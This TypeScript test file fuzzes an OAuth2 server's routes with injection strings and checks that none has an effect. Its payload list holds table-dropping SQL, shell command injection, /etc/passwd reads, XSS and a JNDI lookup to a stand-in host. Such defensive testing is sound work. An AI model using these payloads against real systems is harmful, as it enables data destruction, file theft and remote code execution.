import type { HttpResponse } from '@sallyport/server'
import { expect, it } from 'vitest'
import { expectTokens, newIssuer } from './fixtures.ts'
import { parameterNames } from './faults/request-grammar.ts'
import { openFile } from './stores.ts'

const injections: readonly string[] = [
  `' OR '1'='1`,
  `'; DROP TABLE clients; --`,
  `" UNION SELECT * FROM users --`,
  `\\'; DELETE FROM sessions; --`,
  '{"$gt":""}',
  '*)(uid=*))(|(uid=*',
  '$(touch /tmp/injected)',
  '`id`',
  '| cat /etc/passwd',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.test/x}',
  '<img src=x onerror=alert(1)>',
  '%s%s%n',
]

const addresses: readonly (readonly ['GET' | 'POST', string])[] = [
  ['GET', '/oauth2/authorize'],
  ['POST', '/oauth2/authorize'],
  ['POST', '/oauth2/token'],
  ['POST', '/oauth2/introspect'],
  ['POST', '/oauth2/revoke'],
  ['POST', '/oauth2/logout'],
  ['GET', '/oauth2/logout'],
  ['GET', '/oauth2/resume'],
  ['POST', '/login'],
  ['GET', '/login'],
  ['POST', '/consent'],
]

const textOf = ({ body }: HttpResponse): string => (typeof body === 'string' ? body : Buffer.from(body).toString())

it('IN-09 injection strings in every field of every route have no effect', async () => {
  const file = await openFile()
  const issuer = await newIssuer({ store: file.store })
  const { K } = issuer.clients
  const plain = {
    client_id: K.id,
    redirect_uri: K.redirectUri,
    response_type: 'code',
    grant_type: 'authorization_code',
  }
  for (const [method, path] of addresses)
    for (const name of parameterNames)
      for (const injection of injections) {
        const text = new URLSearchParams({ ...plain, [name]: injection }).toString()
        const inBody = method === 'POST'
        const response = await issuer.server.handle({
          method,
          path,
          query: inBody ? '' : text,
          headers: {
            'content-type': 'application/x-www-form-urlencoded',
            'user-agent': injection,
            cookie: `a=${injection}`,
          },
          body: inBody ? Buffer.from(text) : undefined,
          remoteAddress: '192.0.2.7',
        })
        expect(response.status).toBeLessThan(500)
        expect(textOf(response)).not.toMatch(/SQLITE|syntax error|<img src|:\$?49|root:x:/)
      }
  expect(issuer.records.faults).toEqual([])
  expect(await file.store.integrityFaults()).toEqual([])
  expectTokens(await issuer.redeem(await issuer.authorize()))
  await file.discard()
})

it('IN-09 what is stored is stored literally', async () => {
  const file = await openFile()
  const issuer = await newIssuer({ store: file.store })
  for (const injection of injections) {
    const claims = { name: injection }
    const person = await issuer.addPerson(injection, { claims, password: injection })
    const parameters = { resource: undefined, scope: 'openid profile', state: injection, nonce: injection }
    const flow = await issuer.codeFlow({ person, parameters })
    expect(flow.authorized.response.get('state')).toBe(injection)
    expect((await issuer.userinfo(flow.accessToken)).json['name']).toBe(injection)
  }
  await file.discard()
})
